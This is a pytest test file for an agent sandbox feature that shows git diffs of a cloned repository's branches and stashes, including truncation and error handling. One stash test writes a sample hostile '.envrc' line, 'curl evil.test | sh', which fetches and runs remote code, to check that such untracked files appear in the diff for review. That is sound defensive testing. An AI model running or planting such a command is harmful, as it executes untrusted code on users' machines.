from pathlib import Path

import pytest

from agent_sandbox.problems import UserError
from agent_sandbox.runtime.clones import difference as module
from agent_sandbox.runtime.clones.difference import CUT, STAT, difference
from agent_sandbox.runtime.clones.fetch import Branch, checked_branches
from clone_worlds import World, commit, git, make_world


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def shown(world: World, *, stat: bool = False) -> dict[str, str]:
    with checked_branches(world.volume, world.clone, world.repository, world.status()) as (checked, branches):
        words = STAT if stat else module.PATCH
        return {one.name: difference(checked, world.clone, one, words) for one in branches}


def test_shows_changes_since_the_clone_was_made_and_fetches_nothing(world: World) -> None:
    commit(world.work, text="one\ntwo\n")
    before = git(world.host, "count-objects", "--verbose")
    assert shown(world)["main"].endswith("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n one\n+two\n")
    assert shown(world, stat=True) == {"main": " a.txt | 1 +\n 1 file changed, 1 insertion(+)\n"}
    assert (git(world.host, "count-objects", "--verbose"), world.fetched()) == (before, {})


def test_does_not_show_changes_that_the_project_made_meanwhile(world: World) -> None:
    commit(world.work, name="b.txt", text="b\n")
    commit(world.host, text="other\n")
    git(world.work, "pull", "--quiet", "--no-rebase", "--no-edit", str(world.host), "main")
    commit(world.host, name="c.txt")
    assert " b.txt | 1 +\n" in shown(world, stat=True)["main"]


def test_compares_a_new_branch_with_its_fork_point_and_an_orphan_branch_with_nothing(world: World) -> None:
    git(world.work, "switch", "--quiet", "--create", "topic")
    commit(world.work, name="b.txt", text="b\n")
    git(world.work, "switch", "--quiet", "--orphan", "new")
    commit(world.work, name="c.txt", text="c\n")
    found = shown(world, stat=True)
    assert found["topic"] == " b.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
    assert found["new"] == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"


def test_a_long_difference_is_cut(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST_BYTES", 300)
    commit(world.work, text="".join(f"{number}\n" for number in range(30_000)))
    assert shown(world)["main"].endswith(f"\n{CUT}\n")
    assert len(shown(world)["main"]) < 400


def test_shows_a_stash_with_its_untracked_files(world: World) -> None:
    """`git stash apply` writes them, too."""
    (world.work / "a.txt").write_text("stashed\n")
    (world.work / ".envrc").write_text("curl evil.test | sh\n")
    git(world.work, "stash", "push", "--quiet", "--include-untracked")
    (text,) = shown(world).values()
    assert "\n+stashed\n" in text
    assert "+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil.test | sh\n" in text


def test_compares_a_stash_with_its_parent_and_a_plain_commit_in_its_place_with_the_start(world: World) -> None:
    start = git(world.work, "rev-parse", "HEAD")
    commit(world.work, text="in between\n")
    (world.work / "b.txt").write_text("b\n")
    git(world.work, "add", "b.txt")
    git(world.work, "stash", "push", "--quiet")
    git(world.work, "reset", "--quiet", "--hard", start)
    (text,) = shown(world, stat=True).values()
    assert text == " b.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
    plain = commit(world.work, name="c.txt", text="c\n")
    git(world.work, "reset", "--quiet", "--hard", start)
    git(world.work, "update-ref", "-d", "refs/stash")
    git(world.work, "update-ref", "refs/stash", plain)
    (text,) = shown(world, stat=True).values()
    assert text == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"


def test_a_stash_whose_parents_git_cannot_list_is_an_error(world: World) -> None:
    missing = Branch(name="stash-1", reference="", commit="1" * 40, before="", stash=True)
    with (
        checked_branches(world.volume, world.clone, world.repository, world.status()) as (checked, _),
        pytest.raises(UserError, match="fix-1: git rev-list failed: bad object 1111"),
    ):
        difference(checked, world.clone, missing)
